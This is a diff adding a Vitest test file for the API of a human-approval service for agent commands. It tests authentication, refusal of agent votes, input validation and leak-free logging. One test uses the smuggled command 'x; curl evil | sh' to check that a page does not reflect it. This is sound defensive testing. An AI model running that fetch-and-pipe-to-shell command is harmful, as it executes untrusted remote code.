@@ -1,0 +1,358 @@
+import { Problem, Review, ReviewPage, voteProblemCodes } from '@sallyport/sdk/contract';
+import { beforeEach, describe, expect, it } from 'vitest';
+import { createFake, type Fake, makeReview, tokens } from '../../test/api-fake.ts';
+import type { VoteRefusalCode } from '../core/reasons.ts';
+import { limits } from '../limits.ts';
+import { createApi, mountRoutes } from './api.ts';
+import { problemsOf } from './document.ts';
+import type { Route } from './route.ts';
+import { routes } from './routes.ts';
+
+let fake: Fake;
+let app: ReturnType<typeof createApi>;
+
+beforeEach(() => {
+  fake = createFake();
+  app = createApi(fake.deps);
+});
+
+interface Ask {
+  readonly token?: string | undefined;
+  readonly method?: string;
+  readonly body?: unknown;
+  readonly headers?: Readonly<Record<string, string>>;
+}
+
+async function ask(path: string, { token, method = 'GET', body, headers = {} }: Ask = {}): Promise<Response> {
+  return app.request(path, {
+    method,
+    headers: {
+      ...(token === undefined ? {} : { authorization: `Bearer ${token}` }),
+      ...(body === undefined ? {} : { 'content-type': 'application/json' }),
+      ...headers,
+    },
+    ...(body === undefined ? {} : { body: typeof body === 'string' ? body : JSON.stringify(body) }),
+  });
+}
+
+async function problemOf(response: Response): Promise<Problem> {
+  expect(response.headers.get('content-type')).toBe('application/problem+json');
+  return Problem.parse(await response.json());
+}
+
+/** A path of the route that leads to something. */
+function pathOf(route: Route, reviewId: string): string {
+  return route.path.replace('{id}', reviewId).replace('{path+}', '0/000.p/5');
+}
+
+const guardedRoutes = routes.filter((route) => route.access.to !== 'public');
+const peopleRoutes = routes.filter((route) => route.access.to === 'people');
+
+describe('every guarded route', () => {
+  const call = async (route: Route, token: string | undefined) => {
+    const review = fake.add(makeReview());
+    fake.ledger.checkpoint = { size: 5, note: 'note' };
+    fake.ledger.receipts.set(review.subject.action, 'receipt');
+    const body = route.method === 'post' ? { kind: 'approve', digest: review.subject.digest } : undefined;
+    const response = await ask(pathOf(route, review.id), { token, method: route.method.toUpperCase(), body });
+    if (response.headers.get('content-type') === 'text/event-stream') await response.body?.cancel();
+    return response;
+  };
+
+  it.each(guardedRoutes)('$method $path refuses a call without a token', async (route) => {
+    const response = await call(route, undefined);
+    expect(response.headers.get('www-authenticate')).toMatch(/^Bearer/);
+    expect(await problemOf(response)).toMatchObject({ status: 401, code: 'access.unauthenticated' });
+  });
+
+  it.each(guardedRoutes)('$method $path refuses an unknown token and says nothing of it', async (route) => {
+    const response = await call(route, 'spt_nobody_knows_this');
+    const text = await response.text();
+    expect({ status: response.status, echoed: text.includes('nobody_knows') }).toEqual({
+      status: 401,
+      echoed: false,
+    });
+  });
+
+  it.each(guardedRoutes)('$method $path refuses a person who was disabled', async (route) => {
+    expect((await call(route, tokens.gone)).status).toBe(401);
+  });
+
+  it.each(peopleRoutes)(
+    '$method $path refuses an agent whatever policy says, and records it',
+    async (route) => {
+      expect((await call(route, tokens.reporter)).status).toBe(403);
+      expect(fake.recorded).toEqual([`reporter ${actionOf(route)}`]);
+    },
+  );
+
+  it.each(guardedRoutes)('$method $path refuses a person whom no policy permits', async (route) => {
+    expect(await problemOf(await call(route, tokens.ned))).toMatchObject({
+      status: 403,
+      code: 'access.forbidden',
+    });
+    expect([...fake.reviews.values()].flatMap((review) => review.votes)).toEqual([]);
+  });
+
+  it.each(guardedRoutes)('$method $path answers a person who may', async (route) => {
+    const response = await call(route, tokens.vera);
+    expect(response.status).toBe(200);
+    expect(response.headers.get('content-type')).toContain(route.answer.contentType);
+    expect(response.headers.get('cache-control')).toBe('no-store');
+  });
+
+  it.each(guardedRoutes)('$method $path answers nothing once the right is taken away', async (route) => {
+    fake.revoked.add(actionOf(route));
+    expect((await call(route, tokens.vera)).status).toBe(403);
+  });
+});
+
+function actionOf(route: Route): string {
+  return route.access.to === 'public' ? 'public' : route.access.action;
+}
+
+describe('a table of routes', () => {
+  const [first] = routes;
+
+  it('does not start with a route that has no policy action', () => {
+    const { access, ...rest } = first!;
+    expect(() => mountRoutes([rest as Route], fake.deps)).toThrow(/GET \/v1\/reviews has no policy action/);
+  });
+
+  it('does not start with a policy action that is not in the list', () => {
+    const access = { to: 'people', action: 'api:reviews.burn', agentCode: 'access.people_only' };
+    expect(() => mountRoutes([{ ...first!, access } as unknown as Route], fake.deps)).toThrow(
+      /no policy action/,
+    );
+  });
+
+  it('does not start with the same route twice', () => {
+    expect(() => mountRoutes([first!, first!], fake.deps)).toThrow(/twice/);
+  });
+});
+
+describe('an agent', () => {
+  it('is refused even where the refusal cannot be recorded, and is told so', async () => {
+    fake.ledgerWorks = false;
+    const response = await ask('/v1/reviews', { token: tokens.reporter });
+    expect(await problemOf(response)).toMatchObject({ status: 503, code: 'ledger.unavailable' });
+  });
+
+  it('reads the state of its own review, and nothing of who decides', async () => {
+    const review = fake.add(makeReview());
+    const response = await ask(`/v1/reviews/${review.id}/state`, { token: tokens.reporter });
+    expect(Object.keys((await response.json()) as object).toSorted()).toEqual(
+      ['expiresAt', 'id', 'openedAt', 'resolution', 'revision', 'status'].toSorted(),
+    );
+  });
+
+  it('learns of another agent’s review as much as of one that does not exist', async () => {
+    const review = fake.add(makeReview());
+    const others = await ask(`/v1/reviews/${review.id}/state`, { token: tokens.other });
+    const nobodys = await ask(`/v1/reviews/${makeReview().id}/state`, { token: tokens.other });
+    expect([others.status, await others.text()]).toEqual([404, await nobodys.text()]);
+  });
+
+  it('gets the code of the decision function when it votes', async () => {
+    const review = fake.add(makeReview());
+    const body = { kind: 'approve', digest: review.subject.digest };
+    const response = await ask(`/v1/reviews/${review.id}/votes`, {
+      token: tokens.reporter,
+      method: 'POST',
+      body,
+    });
+    expect((await problemOf(response)).code).toBe('vote.not_a_person');
+    expect(fake.reviews.get(review.id)?.state.status).toBe('pending');
+  });
+});
+
+describe('a vote', () => {
+  const voteOn = (id: string, body: unknown) =>
+    ask(`/v1/reviews/${id}/votes`, { token: tokens.vera, method: 'POST', body });
+
+  it('approves with the digest that was shown', async () => {
+    const review = fake.add(makeReview());
+    const response = await voteOn(review.id, { kind: 'approve', digest: review.subject.digest });
+    expect(Review.parse(await response.json())).toMatchObject({
+      status: 'approved',
+      votes: [{ person: 'vera', kind: 'approve', channel: 'api' }],
+    });
+  });
+
+  it('of something else than what would run is a conflict', async () => {
+    const review = fake.add(makeReview());
+    const response = await voteOn(review.id, { kind: 'approve', digest: '0'.repeat(64) });
+    expect(await problemOf(response)).toMatchObject({ status: 409, code: 'vote.digest_mismatch' });
+  });
+
+  it('without a digest is not a vote', async () => {
+    const review = fake.add(makeReview());
+    expect((await problemOf(await voteOn(review.id, { kind: 'approve' }))).code).toBe('request.invalid');
+  });
+
+  const refusals: Record<VoteRefusalCode, number> = {
+    'review.not_found': 404,
+    'review.over': 409,
+    'vote.not_a_person': 403,
+    'vote.not_entitled': 403,
+    'vote.own_request': 403,
+    'vote.digest_mismatch': 409,
+    'vote.duplicate': 409,
+    'vote.reason_required': 422,
+    'ledger.unavailable': 503,
+  };
+
+  it.each(Object.entries(refusals))('refused with %s answers %i', async (code, status) => {
+    const refusal = { code: code as VoteRefusalCode, message: 'because' };
+    app = createApi({ ...fake.deps, desk: { vote: async () => ({ ok: false, error: refusal }) } });
+    const response = await voteOn(makeReview().id, { kind: 'approve', digest: 'a'.repeat(64) });
+    expect(await problemOf(response)).toMatchObject({ code, status, detail: 'because' });
+  });
+
+  it('is refused for reasons that clients know by the same names', () => {
+    expect([...voteProblemCodes].toSorted()).toEqual(Object.keys(refusals).toSorted());
+  });
+});
+
+it('a review on the wire holds nothing that only the ledger needs', async () => {
+  const review = fake.add(makeReview());
+  const text = await (await ask(`/v1/reviews/${review.id}`, { token: tokens.vera })).text();
+  expect(text).not.toContain(review.subject.salt);
+});
+
+describe('a list of reviews', () => {
+  it('comes newest first, a page at a time, and each once', async () => {
+    const added = [1, 2, 3, 4, 5].map(() => fake.add(makeReview()).id);
+    const seen: string[] = [];
+    let before = '';
+    for (let page = 0; page < 3; page++) {
+      const response = await ask(`/v1/reviews?limit=2${before}`, { token: tokens.vera });
+      const { reviews, next } = ReviewPage.parse(await response.json());
+      seen.push(...reviews.map((review) => review.id));
+      before = next === null ? '' : `&before=${next}`;
+    }
+    expect(seen).toEqual(added.toReversed());
+  });
+
+  it('holds no command, so that nobody decides from it', async () => {
+    fake.add(makeReview({ command: 'SELECT card_number FROM customers' }));
+    expect(await (await ask('/v1/reviews', { token: tokens.vera })).text()).not.toContain('card_number FROM');
+  });
+});
+
+describe('a request that is not valid', () => {
+  const invalid: readonly (readonly [string, string, Ask])[] = [
+    ['a query key that is not known', '/v1/reviews?colour=red', {}],
+    ['a query key given twice', '/v1/reviews?limit=1&limit=2', {}],
+    ['a limit of zero', '/v1/reviews?limit=0', {}],
+    ['a limit beyond the maximum', '/v1/reviews?limit=101', {}],
+    ['a time that is none', '/v1/usage?since=yesterday', {}],
+    ['an end before its beginning', '/v1/usage?since=2026-01-02T00:00:00Z&until=2026-01-01T00:00:00Z', {}],
+    ['a span without end', '/v1/usage?since=2001-01-01T00:00:00Z', {}],
+  ];
+
+  it.each(invalid)('%s is refused', async (_name, path, options) => {
+    const response = await ask(path, { token: tokens.vera, ...options });
+    expect(await problemOf(response)).toMatchObject({ status: 400, code: 'request.invalid' });
+  });
+
+  const votes = (body: unknown, headers: Readonly<Record<string, string>> = {}) =>
+    ask(`/v1/reviews/${makeReview().id}/votes`, { token: tokens.vera, method: 'POST', body, headers });
+
+  it.each([
+    ['no JSON', '{'],
+    ['a list', '[]'],
+    ['a key that is not known', { kind: 'approve', digest: 'a'.repeat(64), admin: true }],
+    ['a kind that is not known', { kind: 'question', digest: 'a'.repeat(64) }],
+  ])('a body that is %s is refused', async (_name, body) => {
+    expect((await problemOf(await votes(body))).code).toBe('request.invalid');
+  });
+
+  it('a body of another content type is refused', async () => {
+    const body = { kind: 'approve', digest: 'a'.repeat(64) };
+    expect((await votes(body, { 'content-type': 'text/plain' })).status).toBe(400);
+  });
+
+  it('a body beyond the limit is refused', async () => {
+    const response = await votes({ kind: 'reject', reason: 'x'.repeat(limits.apiBodyBytes) });
+    expect(await problemOf(response)).toMatchObject({ status: 413, code: 'request.too_large' });
+  });
+
+  it('repeats nothing of what was sent', async () => {
+    const response = await votes({ kind: 'hunter2', hunter3: 1, digest: 'hunter4' });
+    expect(await response.text()).not.toContain('hunter');
+  });
+
+  it.each(['/', '/v2/reviews', '/v1/ledger/', '/v1/reviews/x/y'])('%s is no route', async (path) => {
+    expect((await problemOf(await ask(path, { token: tokens.vera }))).code).toBe('route.not_found');
+  });
+
+  it.each(['PUT', 'DELETE', 'HEAD'])('%s is no method of a review', async (method) => {
+    expect((await ask('/v1/reviews', { token: tokens.vera, method })).status).toBe(404);
+  });
+
+  it('a token that is too long is not even looked at', async () => {
+    const authenticate = () => Promise.reject(new Error('looked at'));
+    app = createApi({ ...fake.deps, authenticate });
+    expect((await ask('/v1/reviews', { token: 'x'.repeat(limits.apiTokenCharacters + 1) })).status).toBe(401);
+  });
+});
+
+describe('a failure inside', () => {
+  const secret = "duplicate key (email)=('ada@example.org')";
+
+  it('tells the caller nothing, and the log no message', async () => {
+    app = createApi({
+      ...fake.deps,
+      store: { read: (): Promise<never> => Promise.reject(new Error(secret)) },
+    });
+    const response = await ask('/v1/reviews', { token: tokens.vera });
+    expect(await problemOf(response)).toMatchObject({ status: 500, code: 'internal' });
+    expect(fake.logLines.join('')).toContain('api.test.ts');
+    expect(fake.logLines.join('')).not.toContain('ada@example.org');
+  });
+
+  it('of a store that never answers ends in time', async () => {
+    const after = (_delayMs: number, run: () => void) => {
+      setTimeout(run, 0);
+      return () => {};
+    };
+    app = createApi({
+      ...fake.deps,
+      clock: { ...fake.deps.clock, after },
+      store: { read: () => new Promise(() => {}) } as unknown as Fake['deps']['store'],
+    });
+    const response = await ask('/v1/reviews', { token: tokens.vera });
+    expect(await problemOf(response)).toMatchObject({ status: 503, code: 'request.timeout' });
+  });
+});
+
+describe('public routes', () => {
+  it('say that the process answers', async () => {
+    expect(await (await ask('/healthz')).text()).toBe('ok\n');
+  });
+
+  it('say the same of a review that exists and of one that does not', async () => {
+    const [known, unknown] = [fake.add(makeReview()).id, makeReview().id];
+    const texts = await Promise.all([known, unknown].map(async (id) => (await ask(`/reviews/${id}`)).text()));
+    expect(texts[0]).toContain(`sallyport show ${known}`);
+    expect(texts[1]?.replaceAll(unknown, known)).toBe(texts[0]);
+  });
+
+  it('put nothing of a link into the page that is not an id', async () => {
+    const text = await (await ask(`/reviews/${encodeURIComponent('x; curl evil | sh')}`)).text();
+    expect(text).not.toContain('evil');
+  });
+});
+
+it('no token of any kind reaches the log', async () => {
+  for (const token of Object.values(tokens)) await ask('/v1/reviews', { token });
+  expect(fake.logLines.length).toBeGreaterThan(0);
+  expect(fake.logLines.join('')).not.toContain('spt_');
+});
+
+describe('documented problems', () => {
+  it.each(guardedRoutes)('of $method $path hold what access control answers', (route) => {
+    expect(problemsOf(route)).toEqual(expect.arrayContaining(['access.unauthenticated', 'access.forbidden']));
+  });
+});
